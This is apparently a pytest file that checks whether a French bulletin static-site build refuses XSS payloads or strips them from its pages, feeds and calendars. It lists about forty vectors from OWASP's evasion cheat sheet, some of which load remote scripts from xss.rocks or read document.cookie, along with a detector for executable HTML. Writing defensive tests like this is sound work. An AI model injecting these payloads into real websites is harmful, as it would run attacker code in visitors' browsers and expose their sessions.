"""Known XSS vectors (OWASP's filter evasion cheat sheet and Markdown's own) pasted in a
bulletin: each is refused with a ``fichier:ligne`` message, or what is published
(HTML pages, feeds, calendars) carries nothing a browser would execute."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from plugins.build import PROJECT_ROOT
from plugins.validation.commands import run_check
from tests.conftest import build_copy

CONF = PROJECT_ROOT / "pelicanconf.py"
INFO = Path("bulletins/info-psoc/01.md")

VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "![a](javascript:alert(1))",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[a]: javascript:alert(1)\n\nVoir [le lien][a].",
]
EXECUTABLE_SCHEMES = re.compile(r"^\s*(javascript|vbscript|data):", re.I)
# Inline SVG (the budget chart) is the theme's: its scripts and handlers are looked for as anywhere.
EMBEDS = {"iframe", "frame", "object", "embed", "applet", "form", "base"}
# The theme's own: its script files, and the search forms of the header and the search page
# (a form in a bulletin's or a page's text is refused at load); linked from the site's root
# or, in the default build, relative to the page (../../theme/js/search.js).
SITE_SCRIPTS = re.compile(r"^(?:\.\./)*/?theme/js/(?:copier|search)\.js$")
SEARCH_PAGES = re.compile(r"^(?:\.\./)*/?(?:en/search|search|recherche)/(?:index\.html)?$")


def appended(content: Path, block: str) -> None:
    path = content / INFO
    text = path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + block + "\n"
    path.write_text(text, encoding="utf-8")


def refused_lines(content: Path) -> list[str]:
    stream = io.StringIO()
    run_check(CONF, content, stream)
    return [line for line in stream.getvalue().splitlines() if line.startswith("content/")]


def executable(html: str) -> list[str]:
    """What a browser would run in ``html``: scripts not from the site, handlers,
    script addresses, embedded documents."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name == "script" and not SITE_SCRIPTS.match(str(tag.get("src", ""))):
            found.append(str(tag)[:80])
        search_form = tag.name == "form" and tag.get("role") == "search"
        if tag.name in EMBEDS and not (search_form and SEARCH_PAGES.match(tag.get("action", ""))):
            found.append(tag.name)
        if tag.name == "meta" and str(tag.get("http-equiv", "")).lower() == "refresh":
            found.append("meta refresh")
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.append(f"{tag.name} {name}")
            if name in ("href", "src", "action", "data", "background", "formaction"):
                if EXECUTABLE_SCHEMES.match(text) and not (
                    tag.name == "img" and text.startswith("data:image/")
                ):
                    found.append(f"{tag.name} {name}={text[:40]}")
    return found


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_each_vector_is_refused_on_its_line_or_published_harmless(vector, project_copy, tmp_path):
    before = len((project_copy / INFO).read_text(encoding="utf-8").rstrip("\n").splitlines())
    appended(project_copy, vector)
    lines = refused_lines(project_copy)
    for line in lines:
        path, number, _ = line.split(":", 2)
        assert path == f"content/{INFO}" and int(number) > before, line
    if lines:
        return
    # Accepted: what a browser reads of it must do nothing (a page and the feeds).
    output = build_copy(project_copy, tmp_path / "output").output
    page = output / "info-psoc" / "info-psoc-01" / "index.html"
    assert executable(page.read_text(encoding="utf-8")) == [], vector
    for feed in (output / "flux").glob("*.xml"):
        for node in BeautifulSoup(feed.read_text(encoding="utf-8"), "xml").find_all(
            ["description", "content", "summary", "encoded"]
        ):
            assert executable(node.get_text()) == [], (vector, feed.name)


def test_nothing_executable_is_published_from_the_sample_site(built_site):
    """The other side of the property: what the site publishes (pages, feeds, whose items
    carry the bulletins' HTML, calendars) holds no executable construct."""
    found = []
    for page in sorted(built_site.rglob("*.html")):
        found += [f"{page}: {item}" for item in executable(page.read_text(encoding="utf-8"))]
    for feed in sorted(built_site.rglob("*.xml")):
        text = feed.read_text(encoding="utf-8")
        soup = BeautifulSoup(text, "xml")
        for node in soup.find_all(["description", "content", "summary", "encoded"]):
            found += [f"{feed}: {item}" for item in executable(node.get_text())]
    for calendar in sorted(built_site.rglob("*.ics")):
        assert "<script" not in calendar.read_text(encoding="utf-8").lower(), calendar
    assert found == []


def test_a_build_with_every_vector_refuses_and_writes_nothing(project_copy, tmp_path):
    from plugins.model import ContentError

    for vector in VECTORS:
        appended(project_copy, vector)
    with pytest.raises(ContentError):
        build_copy(project_copy, tmp_path / "output")
    assert not (tmp_path / "output").exists()
